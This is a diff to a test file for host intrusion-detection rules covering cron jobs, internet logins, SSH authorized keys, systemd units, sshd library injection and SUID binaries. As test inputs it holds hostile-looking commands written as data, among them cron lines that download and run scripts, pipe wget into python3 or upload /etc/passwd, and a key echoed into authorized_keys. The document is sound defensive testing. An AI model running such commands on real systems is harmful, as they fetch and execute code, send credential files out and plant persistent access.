@@ -260,6 +260,10 @@ test("suspicious-cron: a data file refreshed over HTTPS with nothing running it 
   t.equal(cron("root curl -s -o /opt/x/update.sh https://get.example.io/u.sh && sh /opt/x/update.sh"), "low", "run after the fetch");
   t.equal(cron("root curl -s -o /opt/x/data https://get.example.io/d && chmod +x /opt/x/data"), "low", "made runnable");
   t.equal(cron("root curl -d @/etc/passwd -o /var/log/x https://example.org/u"), "low", "an upload is no refresh");
+  t.equal(cron('wget -q -O - "https://www.veloshop.com/wp-cron.php?doing_wp_cron" >/dev/null 2>&1'), "info", "WordPress's cron request, its output thrown away");
+  t.equal(cron("curl -s https://hooks.example.com/nightly"), "info", "curl to standard output, nothing downstream");
+  t.equal(cron("wget -q -O - https://x.example.com/a | python3"), "high", "piped into an interpreter");
+  t.equal(cron("curl -s http://45.61.136.10/ping >/dev/null"), undefined, "a request to a bare address over HTTP stays a finding (a beacon)");
   t.equal(cron("root curl -s -o /etc/x.txt http://203.0.113.7/x.txt"), undefined, "plain HTTP from an address keeps the detection's own severity (medium)");
 });
 
@@ -280,6 +284,50 @@ test("unexpected-kernel-module: another distribution's build of an in-tree drive
   t.equal(kmod("simpledrm")?.kept_by, "kmod:mainline-in-tree", "Alpine's simpledrm");
   t.equal(kmod("kvm_audit")?.kept_by, undefined, "a name no kernel source has");
   t.equal(kmod("diamorphine")?.known_bad, true, "a rootkit's name is judged first");
+});
+
+test("public-interactive-login: a host serving logins from the internet by its own records; root stays a finding", async (t) => {
+  const login = (username: string, ip: string) => ({ username, host: ip, type: "7", type_name: "user-process" });
+  const people = ["ana", "bo", "chen", "dev", "eli"].map((u, i) => login(u, `81.2.69.${10 + i}`));
+  const many = run("public-interactive-login", host({ last: [...people, login("root", "45.61.136.10")] }));
+  t.equal(many.filter((h) => h.kept_by === "logins:public-service").length, 5, "five people from five public addresses: a login service");
+  t.equal(many.find((h) => h.entity === "ip:45.61.136.10")?.severity, "high", "root from the internet is still high");
+  const few = run("public-interactive-login", host({ last: people.slice(0, 4) }));
+  t.equal(findings(few).length, 4, "four people: still findings");
+  t.equal(findings(run("public-interactive-login", host({ last: people.slice(0, 2) }, { role: "hpc-login" }))).length, 0, "a login node by its role tag");
+});
+
+test("ssh-authorized-key: a user's own key appended by hand, cPanel's jailed shell, a service key taken only from inside the site", async (t) => {
+  const user = (uid: string, username: string, shell: string, directory: string) => ({ uid, username, shell, directory });
+  const key = (uid: string, comment: string, file: string, options = "") => ({ uid, key: `AAAAC3NzaC1lZDI1NTE5AAAAI${comment.length}x${uid}`, options, comment, key_file: file });
+  const hpc = (command: string) =>
+    run("ssh-authorized-key", host({ users: [user("23590", "ybenali", "/bin/bash", "/home/ybenali")], authorized_keys: [key("23590", "ybenali@lab-ws14", "/home/ybenali/.ssh/authorized_keys")], shell_history: [{ uid: "23590", command, history_file: "/home/ybenali/.bash_history" }] }));
+  t.same(findings(hpc("cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys")), [], "the user's own key, from their own .ssh");
+  t.equal(findings(hpc("cat /tmp/k.pub >> ~/.ssh/authorized_keys")).length, 1, "a key from /tmp is still appended by hand");
+  t.equal(findings(hpc("echo ssh-ed25519 AAAAC3x evil >> ~/.ssh/authorized_keys")).length, 1, "a key typed in is still appended by hand");
+  const cpanel = run("ssh-authorized-key", host({ users: [user("1004", "oakridgehoa", "/usr/local/cpanel/bin/jailshell", "/home/oakridgehoa")], authorized_keys: [key("1004", "oakridgehoa@cpanel-generated", "/home/oakridgehoa/.ssh/authorized_keys")] }));
+  t.same(findings(cpanel), [], "a jailed shell is a person's shell: their keys are theirs");
+  const barman = (options: string) => run("ssh-authorized-key", host({ users: [user("111", "barman", "/bin/bash", "/var/lib/barman")], authorized_keys: [key("111", "postgres@db01", "/var/lib/barman/.ssh/authorized_keys", options)] }))[0]?.severity;
+  t.equal(barman('from="10.20.1.41"'), "info", "only from an inside address");
+  t.equal(barman('from="10.20.1.*,db01.corp.internal"'), "info", "a private wildcard and an internal name");
+  t.equal(barman('from="10.20.1.41,203.0.113.9"'), undefined, "one outside address: the detection's own severity");
+  t.equal(barman('from="!10.0.0.1,*"'), undefined, "a negation and a wildcard for everyone");
+  t.equal(barman(""), undefined, "no from=");
+});
+
+test("baselines from the blind corpora: a virtualenv's unit, a monitoring agent's library in sshd, packaged SUID helpers", async (t) => {
+  const unit = "/etc/systemd/system/shop.service";
+  const exec = (program: string) =>
+    findings(run("suspicious-systemd-unit", host({ systemd_units: [{ id: "shop.service", fragment_path: unit }], augeas: [{ node: `/files${unit}/Service/ExecStart/command`, value: program, label: "command", path: unit }] })));
+  t.same(exec("/srv/app/.venv/bin/gunicorn"), [], "a virtualenv (.venv) is where an app's unit runs");
+  t.equal(exec("/srv/app/.cache2/bin/agent").length, 1, "another hidden directory is still one");
+  const sshd = (lib: string) => findings(run("sshd-library-backdoor", host({ processes: [proc(743, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D")], process_memory_map: [{ pid: "743", path: lib }] })));
+  t.same(sshd("/opt/dynatrace/oneagent/agent/lib64/liboneagentproc.so"), [], "Dynatrace OneAgent's documented injection");
+  t.equal(sshd("/opt/evil/lib64/liboneagentproc.so").length, 1, "its name elsewhere is not");
+  const suid = (path: string, groupname: string) => findings(run("unexpected-suid", host({ suid_bin: [{ path, username: "root", groupname, permissions: "S" }] })));
+  t.same(suid("/usr/sbin/suexec", "apache"), [], "Apache's suexec");
+  t.same(suid("/usr/sbin/exim", "root"), [], "Exim");
+  t.same(suid("/usr/bin/locate", "slocate"), [], "RHEL 8's mlocate");
 });
 
 test("install-script-payload: what an install's processes do, found by npm's environment, an installing ancestor or node_modules", async (t) => {
